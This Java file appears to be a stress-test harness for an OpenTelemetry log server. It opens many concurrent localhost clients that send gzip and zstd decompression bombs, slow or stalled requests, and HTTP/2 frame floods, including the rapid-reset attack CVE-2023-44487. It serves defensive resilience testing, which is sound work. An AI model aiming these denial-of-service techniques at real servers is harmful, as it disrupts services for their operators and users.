package dev.loom.otlp.server;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.GZIPOutputStream;

/**
 * Clients that mean harm, in a process of their own, so that they share nothing with those that they disturb. Arguments: the port,
 * and the MiB that bombs decode to. A line of input with an {@link Attack}'s name begins it, an empty one ends it; each is answered
 * by a line, the latter with the number of connections that were used up.
 */
final class HostileAttacks {
    private static final int MIB = 1 << 20;
    private static final String LOGS_CALL = "/opentelemetry.proto.collector.logs.v1.LogsService/Export";
    private static final String POST =
            "POST /v1/logs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n";

    /** What clients do, each with one connection after the other, as often as it can; by a number of clients at once. */
    enum Attack {
        GZIP_BOMBS(100),
        ZSTD_BOMBS(100),
        STALLED_BODIES(200),
        STALLED_STREAMS(200),
        UNREAD_ANSWERS(200),
        SLOW_HEADERS(200),
        SLOW_BODIES(200),
        BROKEN_BODIES(20),
        CONNECTIONS(20),
        RST_STREAM_FLOOD(20),
        CONTINUATION_FLOOD(20),
        SETTINGS_FLOOD(20),
        PING_FLOOD(20);

        private final int clients;

        Attack(int clients) {
            this.clients = clients;
        }
    }

    private final int port;
    private final byte[] gzipBomb;
    private final byte[] zstdBomb;
    private final Set<Socket> sockets = ConcurrentHashMap.newKeySet();
    private final LongAdder connections = new LongAdder();
    private volatile boolean ended;

    private HostileAttacks(int port, int bombMib) throws IOException {
        this.port = port;
        gzipBomb = gzipBomb(bombMib);
        zstdBomb = zstdBomb(bombMib);
    }

    public static void main(String[] args) throws Exception {
        HostileAttacks attacks = new HostileAttacks(Integer.parseInt(args[0]), Integer.parseInt(args[1]));
        BufferedReader input = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.US_ASCII));
        System.out.println("ready");
        for (String name = input.readLine(); name != null; name = input.readLine()) {
            attacks.run(Attack.valueOf(name), input);
        }
    }

    private void run(Attack attack, BufferedReader input) throws Exception {
        ended = false;
        connections.reset();
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < attack.clients; i++) {
            Thread thread = new Thread(() -> attackAgainAndAgain(attack));
            thread.start();
            threads.add(thread);
        }
        System.out.println("begun");
        input.readLine();
        ended = true;
        for (Thread thread : threads) {
            while (thread.isAlive()) {
                for (Socket socket : sockets) {
                    socket.close();
                }
                thread.join(1);
            }
        }
        System.out.println(connections.sum());
    }

    private void attackAgainAndAgain(Attack attack) {
        while (!ended) {
            try {
                attack(attack);
            } catch (IOException e) {
                // the connection was ended, or none is to be had
            }
            connections.increment();
            sockets.removeIf(Socket::isClosed);
        }
    }

    private void attack(Attack attack) throws IOException {
        switch (attack) {
            case GZIP_BOMBS -> post("gzip", gzipBomb);
            case ZSTD_BOMBS -> post("zstd", zstdBomb);
            case STALLED_BODIES -> stalledBody();
            case STALLED_STREAMS -> stalledStreams();
            case UNREAD_ANSWERS -> unreadAnswers();
            case SLOW_HEADERS -> trickle("POST /v1/logs HTTP/1.1\r\nX: ");
            case SLOW_BODIES -> trickle(POST + "Content-Length: 10000000\r\n\r\n");
            case BROKEN_BODIES -> brokenBody();
            case CONNECTIONS -> http1().close();
            case RST_STREAM_FLOOD -> resets();
            case CONTINUATION_FLOOD -> continuations();
            case SETTINGS_FLOOD -> flood(RawHttp2.SETTINGS, new byte[6]);
            case PING_FLOOD -> flood(RawHttp2.PING, new byte[8]);
        }
    }

    private void post(String encoding, byte[] bomb) throws IOException {
        try (RawHttp1 client = http1()) {
            client.send(POST + "Content-Encoding: " + encoding + "\r\nContent-Length: " + bomb.length + "\r\n\r\n");
            client.send(bomb);
            client.status();
        }
    }

    private void stalledBody() throws IOException {
        try (RawHttp1 client = http1()) {
            client.send(POST + "Content-Length: 10000000\r\n\r\n");
            client.send(new byte[400_000]);
            client.awaitEnd();
        }
    }

    /** As many streams as are allowed, with as many headers as are allowed. */
    private void stalledStreams() throws IOException {
        try (RawHttp2 client = http2()) {
            for (int i = 0; i < 16; i++) {
                int stream = client.open(LOGS_CALL, false, "content-type", "application/grpc", "x", "x".repeat(7000));
                client.data(stream, false, new byte[] {0, 0, 0, 2, 0, 1});
            }
            client.answer(Integer.MAX_VALUE);
        }
    }

    /** Whole requests, and no window for their answers. */
    private void unreadAnswers() throws IOException {
        try (RawHttp2 client = http2()) {
            client.frame(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0});
            for (int i = 0; i < 16; i++) {
                int stream = client.open(LOGS_CALL, false, "content-type", "application/grpc");
                client.data(stream, true, new byte[5]);
            }
            client.answer(Integer.MAX_VALUE);
        }
    }

    /** Ten bytes a second. */
    private void trickle(String beginning) throws IOException {
        try (RawHttp1 client = http1()) {
            client.send(beginning);
            while (!ended) {
                LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(100));
                client.send("x");
            }
        }
    }

    /** The client dies in the midst of a request. */
    private void brokenBody() throws IOException {
        try (RawHttp1 client = http1()) {
            client.send(POST + "Content-Length: 100000\r\n\r\n");
            client.send(new byte[50_000]);
        }
    }

    /** CVE-2023-44487. */
    private void resets() throws IOException {
        try (RawHttp2 client = http2()) {
            while (!ended) {
                int stream = client.open(LOGS_CALL, false, "content-type", "application/grpc");
                client.frame(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
            }
        }
    }

    private void continuations() throws IOException {
        try (RawHttp2 client = http2()) {
            client.frame(RawHttp2.HEADERS, 0, 1, client.headers(LOGS_CALL));
            while (!ended) {
                client.frame(RawHttp2.CONTINUATION, 0, 1, new byte[100]);
            }
        }
    }

    private void flood(int frameType, byte[] payload) throws IOException {
        try (RawHttp2 client = http2()) {
            while (!ended) {
                client.frame(frameType, 0, 0, payload);
            }
        }
    }

    private RawHttp1 http1() throws IOException {
        return new RawHttp1(connect());
    }

    private RawHttp2 http2() throws IOException {
        return new RawHttp2(connect());
    }

    /** Closing resets the connection, so that no port is used up. */
    private Socket connect() throws IOException {
        Socket socket = new Socket("localhost", port);
        socket.setSoLinger(true, 0);
        sockets.add(socket);
        return socket;
    }

    private static byte[] gzipBomb(int mib) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out, MIB)) {
            byte[] zeroes = new byte[MIB];
            for (int i = 0; i < mib; i++) {
                gzip.write(zeroes);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Blocks of 128 KiB, each a run of one byte. */
    private static byte[] zstdBomb(int mib) {
        int blocks = mib * 8;
        ByteBuffer runs = ByteBuffer.allocate(6 + 4 * blocks).order(ByteOrder.LITTLE_ENDIAN);
        runs.putInt(0xFD2FB528).put((byte) 0).put((byte) 0x58);
        for (int i = 0; i < blocks; i++) {
            runs.putInt((128 << 10) << 3 | 1 << 1 | (i == blocks - 1 ? 1 : 0));
        }
        return runs.array();
    }
}
